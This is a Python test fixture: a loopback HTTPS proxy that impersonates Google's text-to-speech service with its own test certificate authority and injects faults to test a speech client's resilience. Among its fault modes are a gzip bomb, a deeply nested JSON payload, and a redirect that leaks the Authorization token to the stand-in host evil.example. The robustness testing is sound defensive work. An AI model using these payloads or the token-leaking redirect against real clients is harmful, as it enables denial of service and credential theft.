"""A service on the loopback that answers as the real one does, or as badly as it ever did.

It is an HTTP proxy: ``HTTPS_PROXY`` leads real gTTS objects to it, it takes their CONNECT, shows
a certificate of its own authority for the host they asked for, and answers in the `mood` it was
told. Test use only.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import socket
import socketserver
import ssl
import struct
import tempfile
import threading
import time
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import lru_cache
from http.client import HTTPMessage, parse_headers
from typing import BinaryIO

import lameenc
import numpy as np
import trustme

from radioprog.speech.engines.espeak import EspeakEngine
from radioprog.speech.model import SpeechRequest

RATE = 22_050
CAPTCHA = (
    b"<html><title>Sorry...</title><body>unusual traffic<div id='captcha'></div></body></html>"
)
FAULTS = (
    "429 with retry-after",
    "429 without retry-after",
    "5xx",
    "captcha",
    "captcha midway",
    "empty body",
    "bad base64",
    "half body",
    "reset",
    "drip",
    "hang",
    "wrong certificate",
    "redirect loop",
    "huge body",
    "gzip bomb",
    "wrong type",
    "refused",
    "unknown host",
    "slow start",
    "duplicate answer",
    "swapped answers",
    "silence",
    "noise",
    "truncated frame",
    "wrong language",
    "old format",
)
"""What it can do; ``refused`` and ``unknown host`` are done by not being there."""


@lru_cache(maxsize=512)
def mp3_of(text: str, language: str = "vi") -> bytes:
    """Speak a text as the service would: MP3, 32 kbit/s, mono."""
    engine = EspeakEngine(workers=1)
    try:
        return encoded(engine.speak(SpeechRequest(text, "vi", language=language)).samples)
    finally:
        engine.close()


def encoded(samples: np.ndarray) -> bytes:
    encoder = lameenc.Encoder()
    encoder.set_bit_rate(32)
    encoder.set_in_sample_rate(RATE)
    encoder.set_channels(1)
    encoder.set_quality(7)
    encoder.silence()
    pcm = (np.clip(samples, -1, 1) * 32767).astype("<i2").tobytes()
    return bytes(encoder.encode(pcm) + encoder.flush())


def envelope(*sounds: bytes) -> bytes:
    """Wrap sound as the service does."""
    lines = [
        json.dumps(
            [["wrb.fr", "jQ1olc", json.dumps([base64.b64encode(sound).decode()]), None]],
            separators=(",", ":"),
        )
        for sound in sounds
    ]
    return (")]}'\n\n" + "\n".join(lines) + "\n").encode()


def _text_of(body: bytes) -> tuple[str, str]:
    fields = urllib.parse.parse_qs(body.decode())
    text, language, *_ = json.loads(json.loads(fields["f.req"][0])[0][0][1])
    return text, language


@dataclass(slots=True)
class Asked:
    """What was asked of the server."""

    host: str
    text: str
    language: str
    path: str = ""
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


@dataclass(slots=True)
class State:
    mood: str = "good"
    form: str = "gtts"
    """How sound is wrapped: as Google's service does, ``bytes``, or base64 in ``json``."""
    mends_after: int | None = None
    """After so many bad answers it is good again."""
    asked: list[Asked] = field(default_factory=list)
    bad_answers: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)


class FaultServer(socketserver.ThreadingTCPServer):
    """The server; ``mood`` may be changed between requests."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.state = State()
        self._authorities = {True: trustme.CA(), False: trustme.CA()}
        self._contexts: dict[tuple[bool, str], ssl.SSLContext] = {}
        self._folder = tempfile.TemporaryDirectory()
        self.authority = f"{self._folder.name}/authority.pem"
        self._authorities[True].cert_pem.write_to_path(self.authority)
        self._thread = threading.Thread(target=self.serve_forever, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def context_for(self, host: str, trusted: bool) -> ssl.SSLContext:
        key = (trusted, host)
        if key not in self._contexts:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self._authorities[trusted].issue_cert(host).configure_cert(context)
            self._contexts[key] = context
        return self._contexts[key]

    def feel(self, mood: str, mends_after: int | None = None, *, form: str = "gtts") -> None:
        """Take a mood and forget what was asked."""
        self.state = State(mood, form, mends_after)

    def asked_texts(self) -> list[str]:
        """Give the texts that were asked for, in order."""
        with self.state.lock:
            return [asked.text for asked in self.state.asked]

    def handle_error(self, request: object, client_address: object) -> None:
        """Say nothing: clients that go away are expected here."""

    def close(self) -> None:
        self.shutdown()
        self.server_close()
        self._folder.cleanup()


class _Handler(socketserver.BaseRequestHandler):
    server: FaultServer

    def handle(self) -> None:
        plain = self.request.makefile("rb")
        method, target, _ = plain.readline().decode().split(" ", 2)
        parse_headers(plain)
        if method != "CONNECT":
            raise OSError("not a proxy's request")
        host = target.rpartition(":")[0]
        self.request.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
        state = self.server.state
        trusted = state.mood != "wrong certificate"
        context = self.server.context_for(host, trusted)
        with context.wrap_socket(self.request, server_side=True) as secure:
            asked = _request(secure.makefile("rb"), host, state.form)
            with state.lock:
                state.asked.append(asked)
                number = len(state.asked)
                mended = state.mends_after is not None and state.bad_answers >= state.mends_after
                mood = "good" if mended else state.mood
                state.bad_answers += mood != "good"
            answer = _MOODS.get(mood)
            if answer is None:
                raise AssertionError(f"no such mood: {mood}")
            answer(_Exchange(secure, asked.text, asked.language, number, state.form, asked))


def _request(stream: BinaryIO, host: str, form: str) -> Asked:
    path = stream.readline().split(b" ")[1].decode()
    headers: HTTPMessage = parse_headers(stream)
    body = stream.read(int(headers["Content-Length"] or 0))
    if form == "gtts":
        text, language = _text_of(body)
    elif body:
        text, language = json.loads(body)["text"], "vi"
    else:
        text = urllib.parse.parse_qs(urllib.parse.urlsplit(path).query)["text"][0]
        language = "vi"
    return Asked(host, text, language, path, dict(headers.items()), body)


@dataclass(slots=True)
class _Exchange:
    secure: ssl.SSLSocket
    text: str
    language: str
    number: int
    form: str
    asked: Asked

    def wrapped(self, *sounds: bytes) -> bytes:
        """Wrap sound as the service in question does."""
        if self.form == "gtts":
            return envelope(*sounds)
        if self.form == "bytes":
            return b"".join(sounds)
        return json.dumps({"data": [base64.b64encode(sound).decode() for sound in sounds]}).encode()

    def send(
        self, body: bytes, status: str = "200 OK", *, declared: int | None = None, **headers: str
    ) -> None:
        lines = [f"HTTP/1.1 {status}", "Connection: close"]
        if "Transfer_Encoding" not in headers:
            lines.append(f"Content-Length: {len(body) if declared is None else declared}")
        headers = {"Content-Type": "application/json; charset=utf-8"} | headers
        lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
        self.secure.sendall("\r\n".join(lines).encode() + b"\r\n\r\n" + body)

    def good(self) -> bytes:
        return self.wrapped(mp3_of(self.text, self.language))


def _noise() -> bytes:
    return encoded(np.random.default_rng(5).normal(0, 0.2, 2 * RATE))


@lru_cache(maxsize=1)
def _bomb() -> bytes:
    """Compress 64 MiB of nothing to 64 KiB."""
    return gzip.compress(bytes(64 << 20))


def _drip(at: _Exchange) -> None:
    at.secure.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
    for _ in range(600):
        at.secure.sendall(b" ")
        time.sleep(0.1)


def _reset(at: _Exchange) -> None:
    at.secure.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n)]}'")
    at.secure.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    at.secure.close()


def _slow_start(at: _Exchange) -> None:
    time.sleep(0.5)
    at.send(at.good())


def _bad_base64(at: _Exchange) -> None:
    chance = random.Random(1)
    body = at.good().decode("latin-1")
    before, after = ('[\\"', '\\"]') if at.form == "gtts" else ('["', '"]')
    start = body.index(before) + len(before)
    end = body.index(after)
    spoilt = [chance.choice("!*#%") if chance.random() < 0.02 else c for c in body[start:end]]
    at.send((body[:start] + "".join(spoilt)[:-1] + body[end:]).encode("latin-1"))


_MOODS: dict[str, Callable[[_Exchange], None]] = {
    "good": lambda at: at.send(at.good()),
    "429 with retry-after": lambda at: at.send(b"", "429 Too Many Requests", Retry_After="1"),
    "429 without retry-after": lambda at: at.send(b"", "429 Too Many Requests"),
    "5xx": lambda at: at.send(b"upstream", "503 Service Unavailable"),
    "captcha": lambda at: at.send(CAPTCHA, Content_Type="text/html"),
    "captcha midway": lambda at: at.send(
        *((at.good(),) if at.number % 3 == 1 else (CAPTCHA,)), Content_Type="text/html"
    ),
    "empty body": lambda at: at.send(b""),
    "bad base64": _bad_base64,
    "half body": lambda at: at.send(at.good()[: len(at.good()) // 2], declared=len(at.good())),
    "reset": _reset,
    "drip": _drip,
    "hang": lambda at: time.sleep(60),
    "wrong certificate": lambda at: at.send(at.good()),
    "redirect loop": lambda at: at.send(
        b"", "302 Found", Location="https://translate.google.com/_/sorry"
    ),
    "huge body": lambda at: at.send(b" " * (64 << 20)),
    "gzip bomb": lambda at: at.send(_bomb(), Content_Encoding="gzip"),
    "wrong type": lambda at: at.send(
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, Content_Type="image/png"
    ),
    "slow start": _slow_start,
    "duplicate answer": lambda at: at.send(at.wrapped(*[mp3_of(at.text, at.language)] * 2)),
    "swapped answers": lambda at: at.send(at.wrapped(mp3_of("một câu khác hẳn " * 12))),
    "silence": lambda at: at.send(at.wrapped(encoded(np.zeros(2 * RATE)))),
    "noise": lambda at: at.send(at.wrapped(_noise())),
    "truncated frame": lambda at: at.send(at.wrapped(mp3_of(at.text, at.language)[:-53])),
    "wrong language": lambda at: at.send(
        b')]}\'\n\n[["wrb.fr","jQ1olc",null,null,null,[3],"generic"]]\n'
    ),
    "key echoed": lambda at: at.send(
        at.asked.headers["Authorization"].encode(),
        f"403 No {at.asked.headers['Authorization']}",
        X_Why=at.asked.headers["Authorization"],
    ),
    "key in a redirect": lambda at: at.send(
        b"", "302 Found", Location=f"https://evil.example/{at.asked.headers['Authorization'][7:]}"
    ),
    "no sound in json": lambda at: at.send(b'{"data": [{"url": "https://x.example/a.mp3"}]}'),
    "deep json": lambda at: at.send(b"[" * 100_000),
    "old format": lambda at: at.send(mp3_of(at.text, at.language), Content_Type="audio/mpeg"),
}
